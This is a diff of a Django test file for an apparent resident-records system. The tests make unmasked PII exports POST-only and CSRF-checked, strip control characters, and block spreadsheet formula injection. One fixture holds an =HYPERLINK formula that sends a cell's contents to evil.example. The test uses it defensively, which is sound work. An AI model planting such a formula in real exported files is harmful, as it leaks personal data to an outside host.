@@ -9,6 +9,7 @@ from django.test import Client
 from django.urls import reverse
 
 from gridgov.accounts.models import Role
+from gridgov.accounts.scope import SYSTEM
 from gridgov.accounts.services import role_grant, user_create
 from gridgov.accounts.tests.apiclient import as_
 from gridgov.audit.models import AuditAction, AuditEntry
@@ -72,7 +73,7 @@ def test_export_contains_only_in_scope_rows_and_honours_filters(world):
     rows = rows_of(client.get(reverse("transfer:export", args=["residents"])))
     assert [row[6] for row in rows[1:]] == ["张建国"]
     unmasked = rows_of(
-        client.get(reverse("transfer:export", args=["residents"]), {"unmasked": "1", "purpose": "核对"})
+        client.post(reverse("transfer:export", args=["residents"]), {"unmasked": "1", "purpose": "核对"})
     )
     assert unmasked[1][8] == ZHANG_ID
     assert (
@@ -87,14 +88,14 @@ def test_export_contains_only_in_scope_rows_and_honours_filters(world):
 
 
 def test_unmasked_refused_without_pii_right_everywhere(world):
-    worker = user_create(by=None, username="wu", password=world.password, validate=False)
-    role_grant(by=None, user=worker, role=Role.objects.get(code="community_worker"), place=world.community)
+    worker = user_create(by=SYSTEM, username="wu", password=world.password, validate=False)
+    role_grant(by=SYSTEM, user=worker, role=Role.objects.get(code="community_worker"), place=world.community)
     response = client_for(worker).post(
         reverse("transfer:export", args=["residents"]), {"unmasked": "1", "purpose": "核对"}
     )
     assert response.status_code == 403 and "只能导出脱敏数据" in response.content.decode()
     # PII right only in grid 1 while exporting the whole community: refused; grid 1 alone: fine.
-    role_grant(by=None, user=worker, role=Role.objects.get(code="grid_head"), place=world.grid1)
+    role_grant(by=SYSTEM, user=worker, role=Role.objects.get(code="grid_head"), place=world.grid1)
     client = client_for(worker)
     mixed = client.post(reverse("transfer:export", args=["residents"]), {"unmasked": "1", "purpose": "核对"})
     assert mixed.status_code == 403 and "无权查看完整信息" in mixed.content.decode()
@@ -115,7 +116,7 @@ def test_no_export_right_is_403(world):
 
 def test_household_and_floating_exports(world):
     floating_register(
-        by=None,
+        by=SYSTEM,
         resident=world.li,
         origin="湖南省邵阳市",
         household=world.household2,
@@ -148,10 +149,10 @@ def test_api_exports(world):
     rows = rows_of(api.get("/api/v1/exports/residents"))
     assert [row[6] for row in rows[1:]] == ["张建国"] and rows[1][8].startswith("*")
     assert (
-        rows_of(api.get("/api/v1/exports/residents", {"unmasked": "true", "purpose": "核对"}))[1][8]
+        rows_of(api.post("/api/v1/exports/residents", {"unmasked": True, "purpose": "核对"}))[1][8]
         == ZHANG_ID
     )
-    missing = api.get("/api/v1/exports/residents", {"unmasked": "true"})
+    missing = api.post("/api/v1/exports/residents", {"unmasked": True})
     assert missing.status_code == 400 and missing.json()["errors"][0]["field"] == "purpose"
     assert api.get("/api/v1/exports/households", {"place": world.grid2.pk}).status_code == 404
     assert as_(world, "alice").get("/api/v1/exports/residents").status_code == 403
@@ -162,3 +163,53 @@ def test_api_exports(world):
         rows_of(carol.get("/api/v1/exports/floating"))[0]
     ]
     assert carol.get("/api/v1/exports/floating", {"active": "maybe"}).status_code == 422
+
+
+def test_unmasked_exports_are_post_only(world):
+    """A link (GET) can never produce the full numbers: in logs, in history, or from another site."""
+    client = client_for(world.frank)
+    url = reverse("transfer:export", args=["residents"])
+    linked = rows_of(client.get(url, {"unmasked": "1", "purpose": "核对"}))
+    assert linked[1][8] == "**************0018" and ZHANG_ID not in str(linked)
+    assert last_export().changes["masked"] is True and last_export().purpose == ""
+    api = as_(world, "frank")
+    for what in ("residents", "households", "floating"):
+        rows = rows_of(api.get(f"/api/v1/exports/{what}", {"unmasked": "true", "purpose": "核对"}))
+        assert ZHANG_ID not in str(rows) and ZHANG_PHONE not in str(rows)
+    assert AuditEntry.objects.filter(action=AuditAction.EXPORT, changes__masked=False).count() == 0
+    # The page's POST is CSRF-checked like every form.
+    strict = Client(enforce_csrf_checks=True)
+    strict.force_login(world.frank)
+    assert strict.post(url, {"unmasked": "1", "purpose": "核对"}).status_code == 403
+    page = client.get(reverse("transfer:index")).content.decode()
+    assert 'method="post" action="/transfer/exports/residents/"' in page and "csrfmiddlewaretoken" in page
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+
+
+def test_user_text_is_written_as_text_never_a_formula(world):
+    """A grid worker names a resident =HYPERLINK(…); the grid head's export holds text, not a formula."""
+    from openpyxl import load_workbook
+
+    from gridgov.people.models import Resident
+
+    Resident.objects.filter(pk=world.zhang.pk).update(name=FORMULA, employment="+86 加班", notes="@SUM(1)\t")
+    response = client_for(world.carol).post(reverse("transfer:export", args=["residents"]))
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    row = next(r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[6].value))
+    name, employment, notes = row[6], row[14], row[17]
+    assert name.value == "'" + FORMULA and name.data_type == "s"
+    assert employment.value == "'+86 加班" and employment.data_type == "s"
+    assert notes.value.startswith("'@SUM") and notes.data_type == "s"
+    assert all(cell.data_type != "f" for r in sheet.iter_rows() for cell in r)
+
+
+def test_stored_control_characters_do_not_break_exports(world):
+    """Rows stored before the boundary refused them: the export strips what a file cannot hold."""
+    from gridgov.people.models import Resident
+
+    Resident.objects.filter(pk=world.zhang.pk).update(name="张\x00建\x07国", notes="第一行\n第二行\x1b")
+    rows = rows_of(client_for(world.carol).post(reverse("transfer:export", args=["residents"])))
+    by_name = {row[6]: row for row in rows[1:]}
+    assert "张建国" in by_name and by_name["张建国"][17] == "第一行\n第二行"
